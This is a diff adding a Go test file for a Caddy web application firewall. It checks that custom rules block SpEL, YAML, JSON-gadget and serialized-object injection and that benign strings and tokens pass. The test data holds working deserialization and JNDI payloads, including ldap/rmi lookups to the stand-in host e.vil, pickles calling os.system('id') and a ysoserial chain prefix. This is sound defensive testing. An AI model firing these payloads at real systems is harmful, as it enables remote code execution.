@@ -1,0 +1,184 @@
+package waf
+
+import (
+	"encoding/base64"
+	"fmt"
+	"math/rand/v2"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/caddyserver/caddy/v2"
+	"github.com/caddyserver/caddy/v2/caddyconfig"
+)
+
+// spelAttacks are attack 16's B8: SpEL's new of java.lang's
+// ProcessBuilder without its package.
+var spelAttacks = []string{
+	"new ProcessBuilder('id').start()", "new ProcessBuilder('id').inheritIO().start().waitFor()",
+	"new ProcessBuilder({'id'}).start()",
+	"new  ProcessBuilder ( 'sh', '-c', 'id' ) . start ( )", "new ProcessBuilder('id').redirectErrorStream(true).start()",
+}
+
+// yamlAttacks are attack 16's B9: YAML tags that build objects.
+var yamlAttacks = []string{
+	"!!python/object/apply:os.system [\"id\"]", "!!python/object/new:os.system [id]", "!!python/name:os.system",
+	"!!python/module:os", "x: !!python/object/apply:subprocess.check_output [[id]]", "!!python/object:__main__.Exploit {}",
+	"!<tag:yaml.org,2002:python/object/apply:os.system> [id]", "--- !ruby/object:Gem::Installer\ni: x",
+	"!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection", "x: !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://e.vil/x",
+	"!!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://e.vil/x.xml\"]",
+}
+
+// gadgetJSONAttacks are attack 16's B12: Jackson's and Fastjson's
+// polymorphic types that end in a JNDI lookup.
+var gadgetJSONAttacks = []string{
+	`["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"rmi://e.vil:1099/Exploit","loginTimeout":0}]`,
+	`["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://e.vil:1389/Exploit","autoCommit":true}]`,
+	`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://e.vil:1099/x","autoCommit":true}`,
+	`{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://e.vil:1099/x","autoCommit":true}`,
+	`["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://e.vil/x"}]`,
+	`["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://e.vil/x"}]`,
+	`["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://e.vil/x"}]`,
+	`["org.apache.hadoop.shaded.com.zaxxer.hikari.HikariConfig",{"healthCheckRegistry":"ldap://e.vil/x"}]`,
+	`["org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",{"properties":{"data_source":"ldap://e.vil/x"}}]`,
+	`["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":"ldap://e.vil/x","propertyPath":"x"}]`,
+	`{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassName":"$$BCEL$$x"}`,
+	`{"x":["org.apache.shiro.jndi.JndiObjectFactory",{"resourceName":"ldap://e.vil/x"}]}`,
+}
+
+// javaSerialized is the start of a serialized commons-collections chain
+// (ysoserial's CommonsCollections1: an AnnotationInvocationHandler).
+const javaSerialized = "\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xps}\x00\x00\x00\x01\x00\rjava.util.Map"
+
+// serializedAttacks are attack 16's B10 and B11: pickles of an object
+// whose __reduce__ is os.system('id') (protocols 0 to 5), a Java stream
+// in base64 and hex, .NET's BinaryFormatter.
+var serializedAttacks = []string{
+	"Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==", "Y3Bvc2l4CnN5c3RlbQpxAChYAgAAAGlkcQF0cQJScQMu",
+	"gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
+	"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "gAWVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+	base64.StdEncoding.EncodeToString([]byte("cos\nsystem\n(S'id'\ntR.")), "cos\nsystem\n(S'id'\ntR.",
+	base64.StdEncoding.EncodeToString([]byte("csubprocess\ncheck_output\n(S'id'\ntR.")),
+	base64.StdEncoding.EncodeToString([]byte(javaSerialized)), base64.URLEncoding.EncodeToString([]byte(javaSerialized)),
+	"aced0005737200326a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249",
+	"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==", "AAEAAAD_____AQAAAAAAAAAMAgAAAElTeXN0ZW0",
+}
+
+// gadgetBenign are near-misses of rules 210136 to 210138.
+var gadgetBenign = []string{
+	"use new ProcessBuilder to run it", "ProcessBuilder pb = new ProcessBuilder(cmd); pb.start();", "new Process(s).start()",
+	"x: !!str 123\ny: !!binary aGVsbG8=\nz: !!map {}", "python/object is a YAML tag", "Wow!!great", "ruby/object",
+	"CVE-2017-7525 is about com.sun.rowset.JdbcRowSetImpl in Jackson", "the marker rO0AB starts Java serialized data",
+	"gAAAAABl4b2cX3k9Q0VvWm1uT3JtY2VfdG9rZW4taGVyZQ==", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
+	"costume\nsystem", "Cosmos", "com.example.orders.OrderCreated", "Lcom.example.Foo;", "acedemy", "AAEAAAD",
+}
+
+// TestGadgetsBeyondTheCRS: rules 210136 to 210138 refuse attack 16's B8
+// to B12 in the places they arrived in (query, header, form, a multipart
+// YAML file, JSON, a cookie), which the CRS alone passes.
+func TestGadgetsBeyondTheCRS(t *testing.T) {
+	tableOnly(t)
+	var misses, benign []probe
+	for _, s := range spelAttacks {
+		misses = append(misses,
+			probe{name: "query " + s, method: "GET", path: "/api/fn?x=" + url.QueryEscape(s)},
+			probe{name: "X-Expression " + s, method: "GET", path: "/functionRouter", header: http.Header{"X-Expression": {s}}})
+	}
+	for i, s := range yamlAttacks {
+		yml, ymlType := multipartFile("c", `filename="c.yml"`, "application/x-yaml", "a: 1\nx: "+s+"\n")
+		misses = append(misses,
+			probe{name: "query " + s, method: "GET", path: "/api/load?d=" + url.QueryEscape(s)},
+			probe{name: "form " + s, method: "POST", path: "/api/load", contentType: "application/x-www-form-urlencoded", body: "d=" + url.QueryEscape(s)},
+			probe{name: "multipart c.yml " + string(rune('a'+i)), method: "POST", path: "/api/load", contentType: ymlType, body: yml})
+	}
+	for _, s := range gadgetJSONAttacks {
+		misses = append(misses, probe{name: "JSON " + s, method: "POST", path: "/api/items", contentType: "application/json", body: s})
+	}
+	for _, s := range serializedAttacks {
+		misses = append(misses, probe{name: "query " + s, method: "GET", path: "/api/load?d=" + url.QueryEscape(s)})
+		if !strings.Contains(s, "\n") { // the CRS refuses a cookie's line break
+			misses = append(misses, probe{name: "cookie " + s, method: "GET", path: "/", header: http.Header{"Cookie": {"rememberMe=" + url.QueryEscape(s)}}})
+		}
+	}
+	for _, s := range gadgetBenign {
+		benign = append(benign,
+			probe{name: "query " + s, method: "GET", path: "/api/notes?q=" + url.QueryEscape(s)},
+			probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
+	}
+	benign = append(benign,
+		probe{name: "JSON-LD Person", method: "POST", path: "/api/items", contentType: "application/json", body: `{"@context":"https://schema.org","@type":"Person","name":"Ann"}`},
+		probe{name: "JSON type ids", method: "POST", path: "/api/items", contentType: "application/json", body: `["com.example.orders.OrderCreated",{"id":1}]`},
+		probe{name: "a Fernet token in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=" + gadgetBenign[9]}}})
+	runBeyondTheCRS(t, nil, misses, benign)
+}
+
+// TestSpELRoutingExpressionHeader: Caddy drops a header whose name holds
+// a dot unless the server's expected_dot_headers names it (Caddy 2.11,
+// GHSA-49wc-4hcv-v58q); with Spring Cloud Function's
+// spring.cloud.function.routing-expression named there (CVE-2022-22963's
+// place), the header reaches the backend past the CRS alone, and rule
+// 210136 refuses it (the waf hands the header's value to the rules as
+// ARGS:header:spring.cloud.function.routing-expression).
+func TestSpELRoutingExpressionHeader(t *testing.T) {
+	tableOnly(t)
+	const name = "spring.cloud.function.routing-expression"
+	for _, c := range []struct {
+		block string
+		want  int
+	}{{"waf {\n\t\tcrs_only\n\t}", http.StatusOK}, {"waf", http.StatusForbidden}} {
+		backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			fmt.Fprint(w, r.Header.Get(name))
+		}))
+		port := freePort(t)
+		cfg := fmt.Sprintf("{\n\tadmin off\n\tpersist_config off\n\tlog {\n\t\toutput discard\n\t}\n\tservers {\n\t\texpected_dot_headers %s\n\t}\n}\nhttp://127.0.0.1:%d {\n\t%s\n\treverse_proxy %s\n}\n",
+			name, port, c.block, strings.TrimPrefix(backend.URL, "http://"))
+		raw, _, err := caddyconfig.GetAdapter("caddyfile").Adapt([]byte(cfg), nil)
+		if err != nil {
+			t.Fatalf("adapting: %v\n%s", err, cfg)
+		}
+		if err := caddy.Load(raw, true); err != nil {
+			t.Fatalf("loading: %v", err)
+		}
+		base := fmt.Sprintf("http://127.0.0.1:%d", port)
+		for _, s := range append(append([]string{}, spelAttacks...), "new ProcessBuilder('touch','/tmp/pwn').start()") {
+			code, body := send(t, base, probe{method: "GET", path: "/functionRouter", header: http.Header{name: {s}}})
+			if code != c.want || code == http.StatusOK && body != s {
+				t.Errorf("%s: %q: %d %q, want %d", c.block, s, code, body, c.want)
+			}
+		}
+		_ = caddy.Stop()
+		backend.Close()
+	}
+}
+
+// TestSerializedMarkersLeaveTokensAlone: rule 210138's expression matches
+// none of randomSamples random base64, base64url and hex tokens (session
+// ids, API keys, hashes).
+func TestSerializedMarkersLeaveTokensAlone(t *testing.T) {
+	tableOnly(t)
+	re := regexp.MustCompile(serializedMarkerRule)
+	rng := rand.New(rand.NewPCG(16, 11))
+	matched := 0
+	for _, alphabet := range []string{
+		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
+		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
+		"0123456789abcdef",
+	} {
+		for range randomSamples {
+			b := make([]byte, 16+rng.IntN(49))
+			for i := range b {
+				b[i] = alphabet[rng.IntN(len(alphabet))]
+			}
+			if re.Match(b) {
+				matched++
+				t.Logf("%q matches", b)
+			}
+		}
+	}
+	if matched > 0 {
+		t.Errorf("%d of %d random tokens match a serialized object's marker", matched, 3*randomSamples)
+	}
+}
